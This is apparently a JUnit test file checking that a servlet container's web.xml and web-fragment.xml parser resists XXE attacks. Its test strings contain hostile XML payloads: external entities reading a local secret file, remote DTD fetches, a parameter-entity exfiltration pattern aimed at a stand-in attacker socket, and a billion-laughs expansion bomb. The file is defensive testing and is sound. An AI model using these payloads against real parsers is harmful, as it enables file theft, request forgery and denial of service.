package dev.sluice.servlet.internal.deploy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * XXE (CWE-611): a hostile web.xml or web-fragment.xml reads no file and opens no connection through an external
 * entity, an external DTD or a parameter entity, and a billion-laughs entity is not expanded.
 * A "server" that never accepts stands in for the attacker's host: a fetch would connect (the kernel completes the
 * handshake) and then wait for an answer, so after parsing, a connection waiting in its backlog is the proof of a
 * fetch, and its absence proves none was tried (no timing involved).
 */
class DescriptorXxeTest {
    private static final String SECRET = "s3cr3t-marker";

    @TempDir
    Path dir;
    private ServerSocketChannel attacker;
    private String secretUri;
    private String attackerUrl;

    @BeforeEach
    void setUp() throws IOException {
        Path secret = dir.resolve("secret.txt");
        Files.writeString(secret, SECRET);
        secretUri = secret.toUri().toString();
        attacker = ServerSocketChannel.open().bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 50);
        attacker.configureBlocking(false);
        attackerUrl = "http://127.0.0.1:" + attacker.socket().getLocalPort();
    }

    @AfterEach
    void tearDown() throws IOException {
        attacker.close();
    }

    private WebAppConfig parse(String xml) throws IOException {
        WebAppConfig config = new WebAppConfig();
        WebXmlParser.parseWebXml(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)), config);
        return config;
    }

    private void assertNoConnection() throws IOException {
        assertNull(attacker.accept(), "the parser connected to " + attackerUrl);
    }

    @Test
    void externalGeneralEntityReadsNoFile() throws IOException {
        WebAppConfig config = parse("<?xml version=\"1.0\"?>\n<!DOCTYPE web-app [<!ENTITY xxe SYSTEM \"" + secretUri
                + "\">]>\n<web-app><context-param><param-name>p</param-name><param-value>[&xxe;]</param-value>"
                + "</context-param><display-name>&xxe;</display-name></web-app>");
        assertEquals("[]", config.contextParams.get("p"));
    }

    @Test
    void externalEntityOverHttpOpensNoConnection() throws IOException {
        WebAppConfig config = parse("<?xml version=\"1.0\"?>\n<!DOCTYPE web-app [<!ENTITY xxe SYSTEM \"" + attackerUrl
                + "/e\">]>\n<web-app><context-param><param-name>p</param-name><param-value>&xxe;</param-value>"
                + "</context-param></web-app>");
        assertEquals("", config.contextParams.get("p"));
        assertNoConnection();
    }

    @Test
    void externalDtdAndParameterEntityOpenNoConnection() throws IOException {
        parse("<?xml version=\"1.0\"?>\n<!DOCTYPE web-app SYSTEM \"" + attackerUrl + "/web-app.dtd\">\n<web-app/>");
        parse("<?xml version=\"1.0\"?>\n<!DOCTYPE web-app [<!ENTITY % remote SYSTEM \"" + attackerUrl + "/p.dtd\">"
                + " %remote;]>\n<web-app/>");
        // the classic exfiltration: a parameter entity holding the file, sent inside a URL
        parse("<?xml version=\"1.0\"?>\n<!DOCTYPE web-app [<!ENTITY % file SYSTEM \"" + secretUri + "\">"
                + "<!ENTITY % dtd SYSTEM \"" + attackerUrl + "/x.dtd\"> %dtd;]>\n<web-app/>");
        assertNoConnection();
    }

    @Test
    void servlet22DoctypeStillDeploysWithoutFetchingItsDtd() throws IOException {
        WebAppConfig config = parse("<?xml version=\"1.0\"?>\n<!DOCTYPE web-app PUBLIC \"-//Sun Microsystems, Inc.//DTD"
                + " Web Application 2.2//EN\" \"" + attackerUrl + "/web-app_2_2.dtd\">\n<web-app><servlet>"
                + "<servlet-name>s</servlet-name><servlet-class>S</servlet-class></servlet><servlet-mapping>"
                + "<servlet-name>s</servlet-name><url-pattern>x</url-pattern></servlet-mapping></web-app>");
        assertTrue(config.metadataComplete, "a 2.2 descriptor is metadata-complete");
        assertNoConnection();
    }

    @Test
    void fragmentExternalEntityReadsNothing() throws IOException {
        WebXmlParser.Fragment f = WebXmlParser.parseFragment(new ByteArrayInputStream(("<?xml version=\"1.0\"?>\n"
                + "<!DOCTYPE web-fragment [<!ENTITY xxe SYSTEM \"" + secretUri + "\"><!ENTITY net SYSTEM \""
                + attackerUrl + "/f\">]>\n<web-fragment><name>&xxe;&net;</name></web-fragment>")
                .getBytes(StandardCharsets.UTF_8)));
        assertEquals("", f.name);
        assertNoConnection();
    }

    @Test
    void billionLaughsIsNotExpanded() throws IOException {
        StringBuilder dtd = new StringBuilder("<!ENTITY l0 \"lol\">");
        for (int i = 1; i <= 12; i++) {
            dtd.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE web-app [" + dtd + "]>\n<web-app><display-name>&l12;"
                + "</display-name><context-param><param-name>p</param-name><param-value>&l12;</param-value>"
                + "</context-param></web-app>";
        // 3 * 10^12 characters if expanded; the parser leaves internal entity references unexpanded (and its
        // secure processing caps expansion at 64,000 entities should one be expanded): either a short value or a
        // one-line refusal, quickly
        try {
            WebAppConfig config = parse(xml);
            assertTrue(String.valueOf(config.displayName).length() < 1000, "expanded");
            assertTrue(String.valueOf(config.contextParams.get("p")).length() < 1000, "expanded");
        } catch (IOException e) {
            assertTrue(e.getMessage().startsWith("Malformed descriptor") && !e.getMessage().contains("\n"),
                    e.getMessage());
        }
    }
}
